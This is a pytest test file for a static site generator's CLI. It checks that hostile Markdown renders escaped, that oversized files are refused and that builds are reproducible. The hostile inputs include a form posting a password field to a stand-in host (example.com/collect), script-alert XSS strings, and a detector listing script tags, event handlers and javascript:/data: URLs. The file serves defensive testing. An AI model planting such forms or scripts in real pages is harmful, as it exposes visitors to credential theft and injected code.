"""Hostile and broken input: every file either fails with a file:line error or renders safely; nothing executable leaks."""
from __future__ import annotations

import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from thaw.cli import main

from conftest import article

SAFE_DIR = Path(__file__).parent / "safe_content"


class Executable(HTMLParser):
    """Collects anything that could run or act for the page: scripts not from the site's assets, event handlers, frames,
    styles, <base>, javascript: URLs, and forms other than the site's own search box (which sends nothing anywhere)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        if tag == "script" and not (values.get("src", "").startswith("/assets/") or values.get("type") in ("application/ld+json", "application/json")):
            self.found.append(f"<script {values}>")
        if tag in ("iframe", "object", "embed", "style", "base"):
            self.found.append(f"<{tag}>")
        if tag == "form" and not (values.get("class") == "search-form" and values.get("role") == "search" and set(values) <= {"class", "role", "hidden"}):
            self.found.append(f"<form {values}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action") and value.strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                self.found.append(f"{tag} {name}={value}")


def executable_in(folder: Path) -> list[str]:
    found = []
    for page in folder.rglob("*.html"):
        scan = Executable()
        scan.feed(page.read_text(encoding="utf-8"))
        found += [f"{page.relative_to(folder)}: {item}" for item in scan.found]
    return found


@pytest.mark.parametrize("name", sorted(p.name for p in SAFE_DIR.glob("*.md")))
def test_hostile_but_valid_files_render_safely(name: str, tmp_path: Path) -> None:
    content = tmp_path / "content"
    content.mkdir()
    shutil.copy(SAFE_DIR / name, content / name)
    if name == "raw-html.md":  # a form that would send what a visitor types to another site
        with (content / name).open("a", encoding="utf-8") as file:
            file.write('\n<form action="https://example.com/collect" method="post"><input name="password"></form>\n')
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", "--content", str(content), "--output", str(out), "--base-url", "/"])
    assert result.exit_code == 0, result.output + result.stderr
    assert "Traceback" not in result.output + result.stderr
    assert executable_in(out) == []
    page = (out / "understanding" / Path(name).stem / "index.html").read_text(encoding="utf-8")
    if name == "html-in-title.md":
        assert "<title>&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt; Feeling" in page
        assert "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt; Feeling &lt;b&gt;flat&lt;/b&gt;</h1>" in page
    if name == "raw-html.md":
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert "&lt;form action=" in page and "&lt;/form&gt;" in page


def test_a_ten_megabyte_file_is_refused_quickly(tmp_path: Path) -> None:
    content = tmp_path / "content"
    content.mkdir()
    (content / "huge.md").write_text(article(body="word " * 2_100_000))
    result = CliRunner().invoke(main, ["check", "--content", str(content)])
    assert result.exit_code == 1
    assert "content/huge.md: too large (10.5 MB; the limit is 2 MB) — split it into several articles" in result.stderr


def test_the_build_leaves_nothing_outside_its_output_folder_but_its_cache(tmp_path: Path) -> None:
    from conftest import SAMPLE_CONTENT

    content = tmp_path / "content"
    shutil.copytree(SAMPLE_CONTENT, content)
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    result = CliRunner().invoke(main, ["build", "--content", str(content), "--output", str(tmp_path / "out")])
    assert result.exit_code == 0
    after = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.relative_to(tmp_path).parts[0] not in ("out", ".out.thaw-cache"))
    assert after == before
    assert (tmp_path / ".out.thaw-cache").is_dir(), "the cache sits beside the output, never inside content/ or the site"


def test_two_builds_are_byte_identical(tmp_path: Path) -> None:
    from conftest import SAMPLE_CONTENT

    outputs = []
    for run in ("one", "two"):
        out = tmp_path / run
        assert CliRunner().invoke(main, ["build", "--content", str(SAMPLE_CONTENT), "--output", str(out)]).exit_code == 0
        outputs.append({p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()})
    assert outputs[0].keys() == outputs[1].keys()
    assert [name for name in outputs[0] if outputs[0][name] != outputs[1][name]] == []
